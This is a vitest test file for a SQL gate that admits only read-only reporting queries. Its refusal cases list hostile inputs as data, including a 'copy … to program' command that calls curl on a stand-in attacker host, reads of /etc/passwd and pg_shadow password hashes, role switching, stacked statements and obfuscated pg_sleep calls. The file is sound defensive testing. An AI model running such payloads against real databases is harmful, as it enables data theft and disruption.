import { expect, test } from 'vitest';
import { checkQuery } from './gate.ts';
import { RefusedQuery } from './refused-query.ts';

const views = new Map([
  ['vendors', ['id', 'vendor_name', 'email']],
  ['magic_orders', ['magic_order_id', 'vendor_name', 'order_status', 'total_price', 'created_at']],
  ['magic_order_line_items', ['magic_order_id', 'product_id', 'title', 'quantity', 'net_price']],
  ['products', ['shopify_product_id', 'title', 'vendor']],
]);

/** Why a query is refused; null when it passes. */
function refusal(query: string): string | null {
  try {
    checkQuery(query, views);
    return null;
  } catch (error) {
    if (error instanceof RefusedQuery) return error.message;
    throw error;
  }
}

test.each([
  'select 1',
  'SELECT * FROM magic_orders;',
  'select * from reporting.magic_orders as o where o.created_at > now() - interval $$30 days$$',
  "select date_trunc('day', created_at at time zone 'Asia/Kolkata')::date as day, count(*) from magic_orders group by 1",
  'with recursive n as (select 1 as i union all select i + 1 from n where i < 5) select * from n',
  'select vendor_name, rank() over (partition by order_status order by sum(total_price) desc) from magic_orders group by 1, order_status',
  'select v.vendor_name, x.n from vendors v cross join lateral (select count(*) as n from magic_orders o where o.vendor_name = v.vendor_name) x',
  'values (1), (2)',
  'table vendors',
  'explain (analyze, buffers, format json) select 1',
  'show timezone',
  '/* nothing; drop table vendors */ select 1 -- ; delete',
  "select 'it''s; drop table vendors', U&'\\0041'",
  "select coalesce(nullif(trim(both ' ' from vendor_name), ''), '-') from vendors",
  'select (array_agg(vendor_name))[1], extract(year from max(created_at)) from vendors',
  'select (o).* from magic_orders o',
  'select case when count(*) filter (where total_price > 1e3) > 0 then true end from magic_orders',
  'select percentile_cont(0.5) within group (order by total_price) from magic_orders',
  'select * from generate_series(1, 3) with ordinality',
  // Nothing but a text: a backslash escapes nothing in it.
  "select '\\'' || pg_sleep(60) --'",
  'select current_date, current_timestamp, vendor_name ilike any (array[$$a%$$]) from vendors',
])('passes: %s', (query) => expect(refusal(query)).toBeNull());

test.each([
  'select p.title, sum(l.quantity) as pieces from magic_order_line_items l join magic_orders o on o.magic_order_id = l.magic_order_id join products p on p.shopify_product_id = l.product_id group by p.title order by pieces desc limit 20',
  'select o.vendor_name, o.total_price from magic_orders o where o.order_status <> $$hold$$ order by o.created_at',
  'select vendors.id, reporting.vendors.email, vendors.* from reporting.vendors',
  'select s.n, s.day from (select count(*) as n, created_at::date as day from magic_orders group by 2) s',
  'select s.count, s.max, s.date, s."case", s.current_date from (select count(*), max(id), $$2026-01-01$$::date, case when true then 1 end, current_date from vendors) s',
  'select s.id, s.extra from (select v.*, 1 as extra from vendors v) s',
  'select s.id, s.title from (select * from vendors, products) s',
  'select w.a, w.email from (select * from vendors) as w(a)',
  'with a as (select id from vendors), b(x) as (select a.id from a) select b.x from b',
  'with recursive n(i) as (select 1 union all select n.i + 1 from n where n.i < 9) select n.i from n',
  'with recursive b as (select a.x from a), a as (select 1 as x) select b.x from b',
  'select v.column1, v.column2 from (values (1, 2), (3, 4)) v',
  'select g.g from generate_series(1, 3) g',
  'select g.i, g.n from generate_series(1, 3) with ordinality as g(i, n)',
  'select u.x from unnest(array[1, 2]) as u(x)',
  "select e.key, e.value, a.value from jsonb_each('{}') e, json_array_elements('[]') as a",
  'select j.vendor_name, j.id from (vendors join magic_orders using (vendor_name)) as j',
  'select ju.vendor_name, o.total_price, v.id from vendors v join magic_orders o using (vendor_name) as ju',
  'select v.id, l.n from vendors v left join lateral (select count(*) as n from magic_orders o where o.vendor_name = v.vendor_name) l on l.n > v.id',
  'select v.id from vendors v where exists (select 1 from products v where v.vendor = $$a$$) and v.email is not null',
  'select v.id from vendors v union select o.total_price from magic_orders o order by 1',
  'select (select max(o.total_price) from magic_orders o where o.vendor_name = v.vendor_name) from vendors v',
  'select sum(o.total_price) over w from magic_orders o window w as (partition by o.vendor_name)',
  'select count(o.*), to_json(o) from magic_orders o group by o.*',
])('knows the columns of what a query reads: %s', (query) => expect(refusal(query)).toBeNull());

const noColumn = /^The column .* is not available here$/;

test.each([
  // PostgreSQL takes q.f for f(q), or for a cast to f, when q has no column f.
  'select q.pg_get_functiondef from unnest(array[1255]) q',
  'select q.pg_sleep from generate_series(1, 2) q',
  'select q.pg_get_viewdef from unnest(array[1]) as q(x)',
  'select 1 from unnest(array[60]) q where q.pg_sleep is null',
  'select 1 from unnest(array[60]) q group by q.pg_sleep',
  'select 1 from unnest(array[60]) q order by q.pg_sleep',
  'select count(*) filter (where q.pg_sleep is null) from unnest(array[60]) q',
  'select (select q.pg_sleep) from unnest(array[60]) q',
  'select * from unnest(array[60]) q, lateral (select q.pg_sleep) s',
  'select * from unnest(array[60]) q join vendors v on q.pg_sleep is null',
  'select * from unnest(array[60]) q, generate_series(1, q.pg_sleep) s',
  'values ((select q.pg_sleep from generate_series(1, 2) q))',
  'with q as (select 1 as x) select q.pg_sleep from q',
  'with a as (select q.pg_sleep from generate_series(1, 2) q) select * from a',
  'select 1 union select q.pg_sleep from generate_series(1, 2) q',
  'select q.regproc from generate_series(1, 2) q',
  'select q.regclass from unnest(array[1259]) q',
  'select v.text from vendors v',
  'select v.json_agg from vendors v',
  'select v.row_to_json from vendors v',
  'select vendors.pg_typeof from vendors',
  'select reporting.vendors.pg_typeof from vendors',
  'select reporting.q.pg_typeof from generate_series(1, 2) q',
  'select postgres.reporting.vendors.id from vendors',
  'select j.pg_typeof from (vendors v join products p on true) j',
  'select j.id from (vendors v join products p using (id) as j) where j.title is null',
  'select lower.pg_sleep from lower($$1$$)',
  'select "current_date".pg_sleep from current_date',
  // Rows whose only column seems to bear the name of the alias.
  'select row_to_json.row_to_json from unnest(array(select v from vendors v)) row_to_json',
  'select row_to_json.row_to_json from coalesce((select v from vendors v limit 1)) row_to_json',
  // A relation of the same name that PostgreSQL does not mean here.
  'select * from generate_series(1, 2) q, lateral (select s.x from (select 1 as pg_sleep) q, (select q.pg_sleep as x) s) r',
  'select (select q.pg_sleep from (select 1 as x) q) from (select 1 as pg_sleep) q',
  'with q as (select 1 as pg_sleep) select q.pg_sleep from generate_series(1, 2) q',
  'with recursive q as (select 1 as x union all select q.pg_sleep from q) select 1 from q',
  'select (select q.pg_sleep) from generate_series(1, 2) q union select 1 from (select 1 as pg_sleep) q',
  'select q.pg_sleep from (select 1 as pg_sleep) r, generate_series(1, 2) q',
  'select q.pg_sleep from (select 1 as pg_sleep) as q(x)',
  'explain analyze select q.pg_sleep from generate_series(1, 2) q',
])('refuses what would be read as a call: %s', (query) => expect(refusal(query)).toMatch(noColumn));

test('says where a column is unknown, by characters', () => {
  expect.assertions(1);
  try {
    checkQuery("select '₹€',\n  v.pg_sleep from vendors v", views);
  } catch (error) {
    expect(error).toMatchObject({
      message: 'The column v.pg_sleep is not available here',
      details: 'Line 2, column 3',
    });
  }
});

const reading = /^Only read-only queries are allowed/;
const one = /^Run one statement at a time/;
const notHere = /is not available here/;

test.each([
  // More than one statement, or none.
  ['select 1; select 2', one],
  ['select 1;; drop table vendors', one],
  ["select ''; commit; delete from vendors --'", one],
  ['select 1 /* ; */ ; truncate vendors', one],
  ['', /Please enter a SQL query/],
  ['-- only a comment', /Please enter a SQL query/],
  // A NUL would end the text for PostgreSQL.
  ['select 1 \0; drop table vendors', /character that cannot be read/],
  // Writing, in whatever place.
  ['insert into vendors default values', reading],
  ['update vendors set email = null', reading],
  ['delete from vendors', reading],
  ['truncate vendors', reading],
  ['drop table vendors', reading],
  ['create table x as select 1', reading],
  ['create temp table x (a int)', reading],
  ['select * into x from vendors', reading],
  ['merge into vendors using vendors v on true when matched then delete', reading],
  ['with gone as (delete from vendors returning *) select * from gone', reading],
  ['with a as (with b as (update vendors set email = null returning 1) select * from b) select * from a', reading],
  ['explain analyze delete from vendors', reading],
  ['explain analyze create table x as select 1', reading],
  ['explain execute x', reading],
  ['select * from vendors for update', /Rows cannot be locked/],
  ['with v as (select * from vendors for key share) select * from v', /Rows cannot be locked/],
  // Everything that is no query.
  ['do $$ begin perform pg_sleep(60); end $$', reading],
  ["copy vendors to program 'curl evil.example'", reading],
  ["copy (select 1) to '/tmp/x'", reading],
  ['copy vendors from stdin', reading],
  ['call x()', reading],
  ['set role sm_staff', reading],
  ['set session authorization postgres', reading],
  ['reset all', reading],
  ['begin', reading],
  ['listen x', reading],
  ['notify x', reading],
  ['prepare x as select 1', reading],
  ['execute x', reading],
  ['declare c cursor for select 1', reading],
  ['lock table vendors', reading],
  ['vacuum', reading],
  ['load $$x$$', reading],
  ['grant all on vendors to public', reading],
  ['alter system set x = 1', reading],
  ['create extension dblink', reading],
  ['show all', /setting all cannot be shown/],
  ['show data_directory', /setting data_directory cannot be shown/],
  ['explain (settings) select 1', /EXPLAIN SETTINGS/],
  // Functions that run text, read files and settings, wait, lock or write.
  ["select set_config('role', 'postgres', false)", notHere],
  ["select pg_catalog.set_config('role', 'postgres', false)", notHere],
  ["select current_setting('data_directory')", notHere],
  ["select pg_read_file('/etc/passwd')", notHere],
  ["select * from pg_read_binary_file('/etc/passwd')", notHere],
  ["select pg_ls_dir('.')", notHere],
  ['select pg_sleep(60)', notHere],
  ['select 1 from vendors order by pg_sleep(60)', notHere],
  ['select count(*) filter (where pg_sleep(1) is null) from vendors', notHere],
  ["select * from vendors where exists (select pg_sleep_for('1 minute'))", notHere],
  ["select lo_import('/etc/passwd')", notHere],
  ["select lo_from_bytea(0, 'x')", notHere],
  ['select lo_get(1)', notHere],
  ['select pg_advisory_lock(1)', notHere],
  ['select pg_try_advisory_xact_lock(1)', notHere],
  ["select query_to_xml('select * from pg_shadow', true, true, '')", notHere],
  ["select * from query_to_xmlschema('select 1', true, true, '')", notHere],
  ["select database_to_xml(true, true, '')", notHere],
  ["select table_to_xml('pg_shadow', true, true, '')", notHere],
  ["select * from ts_stat('select 1')", notHere],
  ["select * from dblink('dbname=postgres', 'select 1') as t(a int)", notHere],
  ["select nextval('x')", notHere],
  ['select pg_terminate_backend(1)', notHere],
  ["select pg_notify('a', 'b')", notHere],
  ["select has_table_privilege('app.users', 'select')", notHere],
  ["select pg_get_viewdef('reporting.vendors')", notHere],
  ["select repeat('x', 1000000000)", notHere],
  ["select lpad('x', 1000000000)", notHere],
  ["select format('%1000000000s', 1)", notHere],
  ['select app.lower($$a$$)', notHere],
  ['select public.count(*) from vendors', notHere],
  ['select app.enqueue_job($$tidy$$, null)', notHere],
  ['select public.similarity($$a$$, $$b$$)', notHere],
  ['select (1::float8).pg_sleep', /Fields of a value/],
  ["select xmlparse(document '<a/>')", notHere],
  ["select * from xmltable('/a' passing '<a/>' columns x text)", notHere],
  ['select 1 operator(public.%) 2', notHere],
  ['select 1 operator(public.=) any (select 1)', notHere],
  ['select 1 from vendors order by id using operator(public.<)', notHere],
  // The same, written to be overlooked.
  ['select U&"pg\\005fsleep"(60)', notHere],
  ['select "pg_sleep"(60)', notHere],
  ['select/**/pg_sleep/**/(60)', notHere],
  ['SELECT PG_SLEEP(60)', notHere],
  ['select pg_catalog . pg_sleep ( 60 )', notHere],
  ['select ｐｇ_sleep(60)', notHere],
  ["select E'\\'' || pg_sleep(60)::text || ''", notHere],
  // Tables that are not for reports.
  ['select * from app.users', notHere],
  ['select * from users', notHere],
  ['select rolpassword from pg_authid', notHere],
  ['select * from pg_catalog.pg_shadow', notHere],
  ['select * from information_schema.tables', notHere],
  ['select * from pg_stat_activity', notHere],
  ['select * from public.vendors', notHere],
  ['select * from other.reporting.vendors', notHere],
  ['select * from vendors, lateral (select * from pg_shadow) s', notHere],
  ['select (select count(*) from pg_roles)', notHere],
  ['with pg_shadow as (select 1) select * from pg_shadow', /Choose another name/],
  ['select * from pg_user, (with pg_user as (select 1 as a) select * from pg_user) x', /Choose another name/],
  ["select 'pg_shadow'::regclass", notHere],
  ["select cast('x' as app.users)", notHere],
  ['select * from vendors tablesample system (1)', notHere],
])('refuses: %s', (query, why) => expect(refusal(query)).toMatch(why));

test.each([
  ['plus', `select 1${'+1'.repeat(9000)}`],
  ['not', `select ${'not '.repeat(4900)} true`],
  ['case', `select ${'case when true then '.repeat(900)} 1 ${' end'.repeat(900)}`],
])('refuses what is nested without end (%s), and goes on working', (_kind, query) => {
  expect(refusal(query)).toMatch(/nested too deeply|stack depth/);
  expect(refusal('select 1')).toBeNull();
});

test('says where a mistake is', () => {
  try {
    checkQuery('select *\n  form vendors', views);
    expect.unreachable();
  } catch (error) {
    expect(error).toMatchObject({ message: 'syntax error at or near "form"', details: 'Line 2, column 3' });
  }
});
